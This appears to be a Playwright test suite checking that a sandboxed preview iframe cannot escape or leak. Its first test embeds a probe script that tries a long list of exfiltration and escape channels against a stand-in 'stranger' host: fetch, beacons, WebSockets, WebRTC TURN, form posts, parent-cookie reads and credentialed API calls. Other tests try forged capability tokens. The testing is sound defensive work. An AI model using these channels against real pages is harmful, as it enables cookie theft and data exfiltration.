import { expect, html, type Owner, SHOWN, signUp, test, writeProject } from "./preview-fixtures";

/** Opens the workspace of a project whose one page is `body`, and waits until the page has said it is done. */
async function openPage(owner: Owner, url: string, projectId: string): Promise<void> {
  await owner.page.goto(`${url}/projects/${projectId}`);
  await expect(owner.page.frameLocator(SHOWN).locator("#done")).toHaveText("done");
}

test("nothing of the workspace, the browser or the network is within reach of a page", async ({
  owner,
  product,
  stranger,
}) => {
  const there = `http://stranger.localhost:${stranger.port}`;
  const script = `
    const out = {};
    const attempt = (name, work) => { try { out[name] = String(work()); } catch (error) { out[name] = "refused " + error.name; } };
    const later = (name, work) => Promise.race([Promise.resolve().then(work), new Promise((r) => setTimeout(r, 1500, "silent"))])
      .then((value) => { out[name] = String(value?.type ?? value); }, (error) => { out[name] = "refused " + error.name; });
    const load = (tag, props) => new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement(tag), props);
      element.onload = () => resolve("loaded");
      element.onerror = () => reject(new TypeError("failed"));
      document.head.append(element);
    });
    attempt("origin", () => self.origin);
    attempt("parentDocument", () => parent.document.title);
    attempt("parentLocation", () => parent.location.href);
    attempt("frameElement", () => frameElement);
    attempt("parentCookie", () => parent.document.cookie);
    attempt("topNavigation", () => { top.location.href = ${JSON.stringify(there)}; return "asked"; });
    attempt("parentNavigation", () => { parent.location.replace(${JSON.stringify(there)}); return "asked"; });
    attempt("popup", () => open(${JSON.stringify(there)}));
    attempt("nativePopup", () => { const frame = document.createElement("iframe"); document.body.append(frame); return frame.contentWindow?.open(${JSON.stringify(there)}); });
    attempt("cookie", () => { document.cookie = "a=1"; return document.cookie; });
    attempt("storage", () => { localStorage.setItem("a", "1"); return localStorage.getItem("a"); });
    attempt("indexedDB", () => { indexedDB.open("x"); return "opened"; });
    attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('${there}/worker')"]))); return "made"; });
    attempt("beacon", () => navigator.sendBeacon(${JSON.stringify(`${there}/beacon`)}, "x"));
    attempt("socket", () => { new WebSocket(${JSON.stringify(`${there.replace("http", "ws")}/socket`)}); return "made"; });
    attempt("events", () => { new EventSource(${JSON.stringify(`${there}/events`)}); return "made"; });
    attempt("form", () => { const form = Object.assign(document.createElement("form"), { action: ${JSON.stringify(`${there}/form`)}, method: "post" }); document.body.append(form); form.submit(); return "sent"; });
    attempt("rtc", () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:stranger.localhost:${stranger.port}?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); return "made"; });
    for (const rel of ["prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"]) load("link", { rel, href: ${JSON.stringify(there)} + "/" + rel, as: "script" }).catch(() => {});
    document.body.insertAdjacentHTML("beforeend", '<iframe src="${there}/iframe"></iframe><object data="${there}/object"></object><embed src="${there}/embed"><video src="${there}/video" autoplay></video><a ping="${there}/ping" href="#x" id="ping">x</a>');
    document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>fetch(\\'${there}/srcdoc\\').catch(()=>{});new Image().src=\\'${there}/srcdoc-image\\';try{const c=new RTCPeerConnection({iceServers:[{urls:\\'turn:stranger.localhost:${stranger.port}?transport=tcp\\',username:\\'a\\',credential:\\'b\\'}]});c.createDataChannel(\\'x\\');c.createOffer().then(o=>c.setLocalDescription(o))}catch{}<\\/script>"></iframe>');
    document.getElementById("ping").click();
    await Promise.all([
      later("fetch", () => fetch(${JSON.stringify(`${there}/fetch`)}, { mode: "no-cors" })),
      later("image", () => load("img", { src: ${JSON.stringify(`${there}/image`)} })),
      later("script", () => load("script", { src: ${JSON.stringify(`${there}/script`)} })),
      later("css", () => load("link", { rel: "stylesheet", href: ${JSON.stringify(`${there}/css`)} })),
      later("import", () => import(${JSON.stringify(`${there}/import.js`)})),
      later("api", () => fetch(${JSON.stringify(`${product.url}/api/account`)}, { credentials: "include" })),
      later("apiOnOwnHost", () => fetch("/api/account", { credentials: "include" })),
      later("ownHostElsewhere", () => fetch("/")),
      later("serviceWorker", () => navigator.serviceWorker.register("x.js")),
    ]);
    document.getElementById("out").textContent = JSON.stringify(out);
    document.getElementById("done").textContent = "done";`;
  const body = `<p id="done">working</p><pre id="out"></pre><script type="module">${script}</script>`;
  const { projectId } = await writeProject(product, owner.userId, { "index.html": html(body) });
  const popups: string[] = [];
  owner.page.context().on("page", (page) => popups.push(page.url()));
  await openPage(owner, product.url, projectId);

  const out: Record<string, string> = JSON.parse(await owner.page.frameLocator(SHOWN).locator("#out").innerText());
  expect(out).toMatchObject({
    origin: "null",
    parentDocument: "refused SecurityError",
    parentLocation: "refused SecurityError",
    frameElement: "null",
    parentCookie: "refused SecurityError",
    popup: "null",
    cookie: "a=1",
    storage: "1",
    indexedDB: "refused SecurityError",
    fetch: "refused TypeError",
    image: "refused TypeError",
    script: "refused TypeError",
    css: "refused TypeError",
    import: "refused TypeError",
    api: "refused TypeError",
    apiOnOwnHost: "refused TypeError",
    ownHostElsewhere: "refused TypeError",
  });
  expect(out["topNavigation"]).toContain("refused");
  expect(out["parentNavigation"]).toContain("refused");
  expect(out["serviceWorker"]).toContain("refused");
  expect(popups).toEqual([]);
  expect(new URL(owner.page.url()).origin).toBe(product.url);
  expect(stranger.requests()).toEqual([]);
  expect(await owner.page.context().cookies(product.previewUrl)).toEqual([]);
});

for (const [way, body] of Object.entries({
  "a script": `<script>setTimeout(() => { location.href = "THERE" }, 500)</script>`,
  "a refresh": '<meta http-equiv="refresh" content="1;url=THERE">',
})) {
  test(`a page that leaves by ${way} reaches nobody, and comes back`, async ({ owner, product, stranger }) => {
    const there = `http://stranger.localhost:${stranger.port}/`;
    const { projectId } = await writeProject(product, owner.userId, {
      "index.html": html(`<h1>Here</h1>${body.replace("THERE", there)}`),
    });
    let shown = 0;
    owner.page.on("response", (response) => {
      const isPage = response.request().resourceType() === "document" && response.url().startsWith(product.previewUrl);
      if (isPage && response.ok()) shown += 1;
    });
    const refused = owner.page.waitForEvent("console", (message) => message.text().includes("frame-src"));
    await owner.page.goto(`${product.url}/projects/${projectId}`);
    await refused;
    await expect(owner.page.getByText("The page keeps leaving", { exact: false })).toBeVisible();
    // It stays but a moment each time, which a slow machine may not see.
    expect(shown).toBeGreaterThan(1);
    expect(stranger.requests()).toEqual([]);
  });
}

test("a link to another site asks first, and a form says what it would send", async ({ owner, product, stranger }) => {
  const there = `http://stranger.localhost:${stranger.port}/`;
  const body = `<h1>Here</h1><a href="${there}">Away</a><form action="${there}"><input name="name" value="Ada"><button>Send</button></form>`;
  const { projectId } = await writeProject(product, owner.userId, { "index.html": html(body) });
  const frame = owner.page.frameLocator(SHOWN);
  await owner.page.goto(`${product.url}/projects/${projectId}`);
  await frame.getByRole("link", { name: "Away" }).click();
  await expect(owner.page.getByText(`Open stranger.localhost:${stranger.port} in a new tab?`)).toBeVisible();
  await owner.page.getByRole("button", { name: "Stay here" }).click();
  await frame.getByRole("button", { name: "Send" }).click();
  await expect(frame.locator("vectort-note")).toBeAttached();
  await expect(frame.getByRole("heading", { name: "Here" })).toBeVisible();
  expect(stranger.requests()).toEqual([]);
});

test("a page is only read with a capability for it, whole and in time", async ({ browser, owner, product }) => {
  const { projectId } = await writeProject(product, owner.userId, { "index.html": html("<h1>Mine</h1>") });
  const other = await signUp(browser, product);
  expect((await other.owner.api("POST", `/api/projects/${projectId}/preview`, {})).status).toBe(404);
  const theirs = await writeProject(product, other.owner.userId, { "index.html": html("<h1>Theirs</h1>") });
  const mixed = await owner.api("POST", `/api/projects/${projectId}/preview`, { versionId: theirs.versionId });
  expect(mixed.status).toBe(404);
  await other.context.close();

  const mine = (await owner.api("POST", `/api/projects/${projectId}/preview`, {})).body;
  expect(Date.parse(mine.expiresAt) - Date.now()).toBeLessThanOrEqual(3_600_000);
  const tab = await owner.page.context().newPage();
  const get = async (url: string): Promise<number | undefined> => (await tab.goto(url))?.status();
  expect(await get(mine.url)).toBe(200);
  await expect(tab.getByRole("heading", { name: "Mine" })).toBeVisible();
  const [, capability = ""] = /preview\/([^/]+)\//.exec(mine.url) ?? [];
  const [payload = "", signature = ""] = capability.split(".");
  const foreign = Buffer.from(JSON.stringify({ p: projectId, v: theirs.versionId, e: 2 ** 40 })).toString("base64url");
  for (const bad of [
    `${foreign}.${signature}`,
    `${payload}.${signature.slice(1)}`,
    `${payload}A.${signature}`,
    "x.y",
  ]) {
    expect(await get(mine.url.replace(capability, bad))).toBe(403);
    await expect(tab.getByText("This preview link is not valid.", { exact: false })).toBeVisible();
  }
  expect(await get(`${mine.url}nothing.html`)).toBe(404);
  expect(await get(`${product.url}/preview/${capability}/`)).toBe(404);
  expect(await get(`${product.previewUrl}/dashboard`)).toBe(404);
});
